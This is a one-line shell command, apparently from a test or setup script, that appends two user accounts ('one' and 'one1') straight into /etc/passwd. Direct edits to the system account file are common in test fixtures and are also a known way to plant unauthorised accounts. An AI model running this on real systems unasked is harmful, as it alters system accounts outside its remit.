printf '%s\n' 'one:x:4711:100::/:/bin/sh' 'one1:x:4712:100::/:/bin/sh' >> /etc/passwd
